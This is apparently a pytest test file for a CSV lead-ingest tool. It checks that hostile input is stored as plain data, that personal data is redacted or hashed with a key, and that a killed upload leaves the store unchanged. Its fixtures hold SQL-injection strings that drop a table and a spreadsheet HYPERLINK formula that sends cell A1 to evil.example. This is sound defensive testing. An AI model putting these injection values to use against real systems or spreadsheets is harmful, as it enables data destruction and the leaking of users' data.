"""Hostile input, personal data and crashes (SPEC 3 and 6).

- A hostile header and hostile values ingest as plain data: the tables survive, values are kept
  exactly as given.
- E-mail addresses, phone numbers and names never reach the database file in clear text; a keyed
  hash of the e-mail matches the same person across uploads.
- A SIGKILL in the middle of an upload leaves the store exactly as it was before the upload.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import os
import random
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from funnel.ingest.core import IngestOptions, IngestResult
from funnel.ingest.spend import ingest_spend
from funnel.ingest.upload import ingest_file
from funnel.store import connection as store

ROOT = Path(__file__).resolve().parent.parent
HOSTILE_HEADER = 'x"; DROP TABLE leads; --'
DROP_VALUE = "'); DROP TABLE leads; --"
FORMULA_VALUE = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
TABLES = ["uploads", "leads", "lead_events", "rejected_rows", "channels", "channel_map",
          "stage_map", "channel_spend"]


def ingest_text(con, db_path: Path, name: str, text: str, **options) -> IngestResult:
    path = db_path.parent / name
    path.write_text(text, encoding="utf-8", newline="")
    return ingest_file(con, path, IngestOptions(**options), db_path=db_path)


def table_names(con) -> set[str]:
    rows = con.execute("SELECT table_name FROM duckdb_tables() WHERE NOT temporary").fetchall()
    return {r[0] for r in rows}


def counts(con) -> dict[str, int]:
    return {
        t: con.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
        for t in ("uploads", "leads", "lead_events", "rejected_rows")
    }


def csv_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


# --- hostile headers and values -----------------------------------------------------------------


def test_hostile_header_and_values_ingest_as_plain_data(con, db_path):
    # "Plan": no free-text column that may name a person, so kept as written in rejects
    header = ["id", csv_cell(HOSTILE_HEADER), "Created Date", "Plan"]
    text = (
        ",".join(header) + "\n"
        f"1,{csv_cell(DROP_VALUE)},2026-01-05,a\n"
        f"2,{csv_cell(FORMULA_VALUE)},2026-01-05,b\n"
        f"3,Referral,2026-02-31,{csv_cell(DROP_VALUE)}\n"  # rejected: its raw row is kept
    )
    result = ingest_text(con, db_path, "hostile.csv", text, mapping={"channel": HOSTILE_HEADER})
    assert (result.read, result.loaded, result.rejected) == (3, 2, 1)
    assert result.mapping["channel"] == HOSTILE_HEADER
    assert set(TABLES) <= table_names(con)  # nothing dropped
    raw = dict(con.execute("SELECT crm_id, channel_raw FROM leads").fetchall())
    assert raw == {"1": DROP_VALUE, "2": FORMULA_VALUE}  # exactly as given
    # the raw row of the rejected one keeps the hostile header as a key, the value as a value
    (raw_row,) = con.execute("SELECT raw_row FROM rejected_rows").fetchone()
    row = json.loads(raw_row)
    assert row[HOSTILE_HEADER] == "Referral"
    assert row["Plan"] == DROP_VALUE
    # the store still works
    again = ingest_text(
        con, db_path, "after.csv", "id,Lead Source,Created Date\n9,Web,2026-01-06\n"
    )
    assert again.loaded == 1
    assert con.execute("SELECT count(*) FROM leads").fetchone()[0] == 3


def test_hostile_header_as_unmapped_column_and_hostile_stage(con, db_path):
    text = (
        f"id,Lead Source,Created Date,Stage,{csv_cell(HOSTILE_HEADER)}\n"
        f"1,Web,2026-01-05,{csv_cell(DROP_VALUE)},{csv_cell(DROP_VALUE)}\n"
    )
    result = ingest_text(con, db_path, "hostile2.csv", text)
    assert result.loaded == 1
    assert con.execute("SELECT stage, stage_raw FROM leads").fetchone() == ("new", DROP_VALUE)
    assert result.unmapped == [
        {"kind": "stage", "raw_value": DROP_VALUE, "stored_as": "new", "leads": 1}
    ]
    assert set(TABLES) <= table_names(con)


def test_hostile_set_value_is_a_value(con, db_path):
    result = ingest_text(
        con,
        db_path,
        "set.csv",
        "id,Created Date\n1,2026-01-05\n",
        constants={"channel": DROP_VALUE, "stage": DROP_VALUE},
    )
    assert result.loaded == 1
    # the slug of the value: runs of non-alphanumerics -> "_", none at the ends
    assert con.execute("SELECT channel, channel_raw FROM leads").fetchone() == (
        "drop_table_leads",
        DROP_VALUE,
    )
    assert set(TABLES) <= table_names(con)


def test_hostile_header_in_a_spend_file(con, db_path):
    path = db_path.parent / "spend.csv"
    path.write_text(
        f"Channel,Week starting,{csv_cell('Money spent' + HOSTILE_HEADER)}\n"
        f"{csv_cell(DROP_VALUE)},2026-01-05,100\n"
    )
    result = ingest_spend(con, path)
    assert result.loaded == 1
    assert con.execute("SELECT channel, money FROM channel_spend").fetchone() == (
        "drop_table_leads",
        100.0,
    )
    assert set(TABLES) <= table_names(con)


# --- personal data ------------------------------------------------------------------------------

PEOPLE = (
    "id,First Name,Last Name,Email,Phone,Lead Source,Created Date\n"
    "1,Jane,Roe,jane.roe@example.com,+1 (555) 010-4477,Referral,2026-01-05\n"
    # row 3 is rejected (31 February): its personal cells must be stored redacted
    "2,Zebediah,Quackenbush,zeb.quackenbush@example.org,555-010-9911,Web,2026-02-31\n"
)
SECRETS = [
    b"jane.roe@example.com",
    b"Jane",
    b"Roe,",
    b"Zebediah",
    b"Quackenbush",
    b"zeb.quackenbush",
    b"010-4477",
    b"5550104477",
    b"555-010-9911",
    b"5550109911",
]


def database_bytes(db_path: Path) -> bytes:
    data = db_path.read_bytes()
    wal = Path(str(db_path) + ".wal")
    return data + (wal.read_bytes() if wal.exists() else b"")


def test_personal_data_never_reaches_the_database_file(db_path):
    con = store.connect(db_path)
    result = ingest_text(con, db_path, "people.csv", PEOPLE)
    assert (result.loaded, result.rejected) == (1, 1)
    (raw_row,) = con.execute("SELECT raw_row FROM rejected_rows").fetchone()
    row = json.loads(raw_row)
    assert row["First Name"] == row["Last Name"] == row["Email"] == row["Phone"] == "[redacted]"
    assert row["Lead Source"] == "Web" and row["Created Date"] == "2026-02-31"
    hashes = con.execute("SELECT email_hash, phone_hash FROM leads").fetchone()
    assert all(hashes)
    con.execute("CHECKPOINT")
    con.close()
    data = database_bytes(db_path)
    assert len(data) > 0
    for secret in SECRETS:
        assert secret not in data, secret
        assert secret.lower() not in data.lower(), secret


def test_the_hash_is_keyed(db_path, tmp_path):
    # An unkeyed hash of an e-mail can be reversed by hashing a list of addresses: the stored
    # hash must depend on a key kept outside the database file.
    con = store.connect(db_path)
    ingest_text(con, db_path, "people.csv", PEOPLE)
    (stored,) = con.execute("SELECT email_hash FROM leads").fetchone()
    con.close()
    email = "jane.roe@example.com"
    for text in (email, "email:" + email):
        for algo in ("sha256", "md5", "sha1"):
            assert hashlib.new(algo, text.encode()).hexdigest()[: len(stored)] != stored
    key_files = [p for p in db_path.parent.iterdir() if p.name.endswith(".key")]
    assert key_files, "the key lives in a file beside the store"
    # another store (another key) hashes the same address differently
    other_db = tmp_path / "other" / "other.duckdb"
    other = store.connect(other_db)
    ingest_file(other, db_path.parent / "people.csv", IngestOptions(), db_path=other_db)
    assert other.execute("SELECT email_hash FROM leads").fetchone()[0] != stored
    other.close()


def test_personal_data_of_a_broken_row_is_redacted(db_path):
    con = store.connect(db_path)
    result = ingest_text(
        con,
        db_path,
        "broken_people.csv",
        "id,First Name,Last Name,Email,Phone,Lead Source,Created Date\n"
        "1,Jane,Roe,jane.roe@example.com,555-010-4477,Referral,2026-01-05,surplus\n"
        "2,,,,,Web,2026-01-06\n",  # a row that loads: a file of rejects alone is refused
    )
    assert result.rejected == 1
    con.execute("CHECKPOINT")
    con.close()
    data = database_bytes(db_path)
    for secret in (b"Jane", b"Roe,", b"jane.roe@example.com", b"555-010-4477"):
        assert secret not in data, secret


def test_same_email_without_an_id_is_the_same_lead(con, db_path):
    ingest_text(
        con,
        db_path,
        "week1.csv",
        "Email,Lead Source,Created Date,Stage\n"
        "jane.roe@example.com,Referral,2026-01-05,Contacted\n",
        as_of=dt.date(2026, 1, 10),
    )
    # next week: the address in other case and with spaces, a new stage
    ingest_text(
        con,
        db_path,
        "week2.csv",
        "E-mail,Created Date,Stage\n  Jane.Roe@Example.COM ,2026-01-05,Proposal\n",
        as_of=dt.date(2026, 1, 17),
    )
    rows = con.execute("SELECT channel, stage FROM leads").fetchall()
    assert rows == [("referral", "proposal")]  # one lead, channel kept, stage moved on


def test_same_email_matches_a_lead_first_seen_with_an_id(con, db_path):
    ingest_text(
        con,
        db_path,
        "crm.csv",
        "id,Email,Lead Source,Created Date,Stage\n"
        "7,sam@example.com,Referral,2026-01-05,Contacted\n",
        as_of=dt.date(2026, 1, 10),
    )
    ingest_text(
        con,
        db_path,
        "sheet.csv",
        "Email,Created Date,Stage\nsam@example.com,2026-01-05,Proposal\n",
        as_of=dt.date(2026, 1, 17),
    )
    assert con.execute("SELECT crm_id, channel, stage FROM leads").fetchall() == [
        ("7", "referral", "proposal")
    ]


# --- a crash in the middle of an upload ---------------------------------------------------------

BIG_ROWS = 300_000

# Runs an ingest in a child process and prints the name of each statement before running it,
# so the parent can kill the child at a known point of the upload.
CHILD = """
import sys
from pathlib import Path
from funnel.store import connection as store
from funnel.ingest.core import IngestOptions
from funnel.ingest.upload import ingest_file

real_run = store.run
def traced_run(con, name, params=None):
    print("step", name, flush=True)
    return real_run(con, name, params)
store.run = traced_run

db = Path(sys.argv[1])
con = store.connect(db)
result = ingest_file(con, Path(sys.argv[2]), IngestOptions(), db_path=db)
print("done", result.loaded, flush=True)
con.close()
"""


@pytest.fixture(scope="module")
def big_csv(tmp_path_factory) -> Path:
    """300,000 leads; the last two re-state leads 1 and 2 of the earlier upload (new stages),
    so the upload deletes and re-inserts stored leads, not only adds new ones."""
    path = tmp_path_factory.mktemp("big") / "big.csv"
    rng = random.Random(42)
    sources = ["Referral", "Cold call", "Web", "Trade show", "Google Ads"]
    stages = ["New", "Contacted", "Qualified", "Proposal", "Closed Won", "Closed Lost"]
    with path.open("w", encoding="utf-8") as out:
        out.write("id,Email,Lead Source,Created Date,Stage,Amount\n")
        for i in range(BIG_ROWS - 2):
            out.write(
                f"B{i},user{i}@example.com,{rng.choice(sources)},"
                f"2025-{1 + i % 12:02d}-{1 + i % 28:02d},{rng.choice(stages)},{i % 5000}\n"
            )
        out.write("1,,Web,2026-01-05,Proposal,100\n2,,Referral,2026-01-06,Qualified,200\n")
    return path


def child_env() -> dict[str, str]:
    return {k: v for k, v in os.environ.items() if k != "FUNNEL_PII_KEY"}


def seeded_store(db_path: Path) -> tuple[dict[str, int], list[tuple]]:
    """A store holding one earlier upload: its table counts and its leads."""
    con = store.connect(db_path)
    ingest_text(
        con,
        db_path,
        "earlier.csv",
        "id,Lead Source,Created Date,Stage\n1,Web,2026-01-05,Contacted\n2,Referral,2026-01-06,"
        "New\n3,Web,2026-02-31,New\n",
    )
    state = counts(con), stored_leads(con)
    con.close()
    return state


def stored_leads(con) -> list[tuple]:
    return con.execute("SELECT * FROM leads ORDER BY lead_key").fetchall()


def test_sigkill_during_the_upload_leaves_the_previous_state(db_path, big_csv):
    before, leads_before = seeded_store(db_path)
    # Kill the child when it reaches insert_events: by then the upload row is written and the
    # leads it re-states (1 and 2) were deleted and inserted again, all inside the transaction.
    proc = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(db_path), str(big_csv)],
        cwd=ROOT,
        env=child_env(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    seen = []
    try:
        for line in proc.stdout:
            seen.append(line.strip())
            if line.strip() == "step ingest/insert_events":
                os.kill(proc.pid, signal.SIGKILL)
                break
    finally:
        proc.wait(timeout=120)
        proc.stdout.close()
        proc.stderr.close()
    assert proc.returncode == -signal.SIGKILL, seen
    assert "step ingest/insert_leads" in seen

    con = store.connect(db_path)
    try:
        assert counts(con) == before
        assert stored_leads(con) == leads_before
        assert set(TABLES) <= table_names(con)
        # a re-run completes and loads the whole file
        result = ingest_file(con, big_csv, IngestOptions(), db_path=db_path)
        assert not result.already_ingested
        assert (result.read, result.loaded, result.rejected) == (BIG_ROWS, BIG_ROWS, 0)
        # leads 1 and 2 were already stored: 300,000 - 2 new ones
        assert counts(con)["leads"] == before["leads"] + BIG_ROWS - 2
    finally:
        con.close()


def test_sigkill_after_a_delay_leaves_before_or_after_never_between(db_path, big_csv):
    # A kill in the middle of the CLI's ingest, whatever it is doing then: the store holds the
    # previous state or the whole upload, never part of it. The kill waits for something the
    # child does, not for a time a loaded machine may not keep: the ingest has begun once the
    # file's bytes are kept as <store>.uploads/<sha256>, before it stages, types and writes the
    # file (seconds of work). The kill inside the write transaction is the test above.
    before, leads_before = seeded_store(db_path)
    kept = db_path.with_name(db_path.name + ".uploads") / hashlib.sha256(
        big_csv.read_bytes()).hexdigest()
    assert not kept.exists()
    proc = subprocess.Popen(
        [sys.executable, "-m", "funnel", "ingest", str(big_csv), "--db", str(db_path)],
        cwd=ROOT,
        env={**child_env(), "FUNNEL_KEEP_RAW": "1"},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 120
        while not kept.exists() and proc.poll() is None and time.monotonic() < deadline:
            time.sleep(0.01)
        assert kept.exists(), f"the ingest never kept the file (exit code {proc.poll()})"
        assert proc.poll() is None, "the ingest ended before the kill"
        os.kill(proc.pid, signal.SIGKILL)
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait(timeout=120)
    assert proc.returncode == -signal.SIGKILL
    con = store.connect(db_path)
    try:
        now = counts(con)
        if now == before:
            assert stored_leads(con) == leads_before
        else:  # the kill came after the commit: the whole upload is there
            assert now["uploads"] == before["uploads"] + 1
            assert now["leads"] == before["leads"] + BIG_ROWS - 2
    finally:
        con.close()
